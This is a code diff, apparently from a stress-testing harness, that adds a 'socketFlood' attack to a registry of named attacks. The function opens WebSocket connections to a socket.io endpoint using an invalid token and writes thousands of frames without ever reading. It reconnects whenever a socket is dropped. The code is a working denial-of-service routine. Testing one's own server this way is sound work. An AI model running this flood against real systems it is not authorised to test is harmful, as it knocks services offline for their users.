@@ -166,6 +166,45 @@ const pour = ({ connections, request, ahead, reads }: Pouring): Attack => {
   };
 };
 
+/** Sockets whose tokens nobody knows, and that send packet after packet without reading; made anew when they are ended. */
+const socketFlood = ({ connections }: { readonly connections: number }): Attack => {
+  const upgrade = bytesOf({
+    path: "/socket.io/?EIO=4&transport=websocket",
+    headers: {
+      Connection: "Upgrade",
+      Upgrade: "websocket",
+      "Sec-WebSocket-Version": "13",
+      "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==",
+    },
+  });
+  const payload = Buffer.from('40{"token":"rs_x"}');
+  // A text frame, masked with zeros.
+  const frame = Buffer.concat([Buffer.from([0x81, 0x80 | payload.length, 0, 0, 0, 0]), payload]);
+  const frames = Buffer.concat(counted(2_700, () => frame));
+  return async (target, signal, tally) => {
+    const one = async () => {
+      while (!signal.aborted) {
+        const socket = connect({ ...target, noDelay: true });
+        const gone = new Promise<void>((resolve) => socket.once("close", () => resolve()));
+        const leave = () => socket.destroy();
+        signal.addEventListener("abort", leave);
+        socket.on("error", () => {});
+        socket.write(upgrade);
+        socket.once("data", () => socket.pause());
+        while (!socket.destroyed) {
+          if (!socket.write(frames)) await Promise.race([once(socket, "drain").catch(() => {}), gone]);
+        }
+        await gone;
+        signal.removeEventListener("abort", leave);
+        tally.bytesSent += socket.bytesWritten - socket.writableLength;
+        tally.figures["sockets that were ended"] = (tally.figures["sockets that were ended"] ?? 0) + 1;
+        await pause(reconnectMs, signal);
+      }
+    };
+    await Promise.all(counted(connections, one));
+  };
+};
+
 /** One upload without an end, by somebody without a key, who goes on after the refusal. */
 const endless = (): Attack => {
   const head = bytesOf({
@@ -286,6 +325,7 @@ const listen = async ({ url, tokens, socketsEach, event }: Listening): Promise<A
 export const attacks: Readonly<Record<string, (settings: never) => Attack | Promise<Attack>>> = {
   hammer,
   pour,
+  socketFlood,
   hold,
   idle,
   endless,
